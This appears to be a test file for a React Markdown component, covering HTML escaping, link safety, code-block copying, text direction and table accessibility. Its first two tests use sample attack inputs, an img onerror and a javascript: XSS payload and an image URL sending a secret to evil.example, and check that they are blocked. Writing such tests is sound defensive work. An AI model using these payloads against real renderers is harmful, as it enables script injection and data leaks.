import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';

import { Markdown } from './Markdown';

describe('Markdown', () => {
  it('shows HTML as text and follows no script address', () => {
    const { container } = render(
      <Markdown text={'<img src=x onerror=alert(1)> <b>bold</b> [x](javascript:alert(1))'} />,
    );
    expect(container.querySelector('img, b, script')).toBeNull();
    expect(screen.getByText('x').getAttribute('href') ?? '').not.toContain('javascript');
  });

  it('loads no image that a model names', () => {
    const { container } = render(<Markdown text="![chart](https://evil.example/?secret=1)" />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'chart' })).toHaveAttribute(
      'rel',
      expect.stringContaining('noreferrer'),
    );
  });

  it('shows a code block with its file’s name and copies it whole', async () => {
    const user = userEvent.setup();
    render(<Markdown text={'```python greet.py\nprint("hi")\nprint(1 < 2)\n```'} />);
    expect(screen.getByText('python · greet.py')).toBeVisible();
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('print("hi")\nprint(1 < 2)\n');
    expect(screen.getByRole('button', { name: 'Copied' })).toBeVisible();
  });

  it('lets each part begin where its own letters do, and code always at the left', () => {
    const { container } = render(
      <Markdown text={'> שלום\n\n1. אחת\n2. שתיים\n\n```\nשלום = 1\n```\n\n3. third'} />,
    );
    const directions = [...container.querySelectorAll('[dir]')].map(
      (part) => `${part.tagName} ${part.getAttribute('dir')}`,
    );
    expect(directions).toEqual(['BLOCKQUOTE auto', 'OL auto', 'DIV ltr', 'OL auto']);
    expect(container.querySelectorAll('ol')[1]).toHaveAttribute('start', '3');
  });

  it('lets keys reach a table, which scrolls where it is too wide', () => {
    render(<Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |'} />);
    expect(screen.getByRole('table').parentElement).toHaveAttribute('tabindex', '0');
  });

  it('copies where the browser has no clipboard to write to, too', async () => {
    const user = userEvent.setup();
    vi.spyOn(navigator, 'clipboard', 'get').mockReturnValue(undefined as never);
    const setData = vi.fn();
    Reflect.set(document, 'execCommand', () => {
      const copy = new Event('copy', { cancelable: true });
      return !document.dispatchEvent(Object.assign(copy, { clipboardData: { setData } }));
    });
    render(<Markdown text={'```\nls\n```'} />);
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeVisible();
    expect(setData).toHaveBeenCalledWith('text/plain', 'ls\n');
    Reflect.deleteProperty(document, 'execCommand');
  });
});
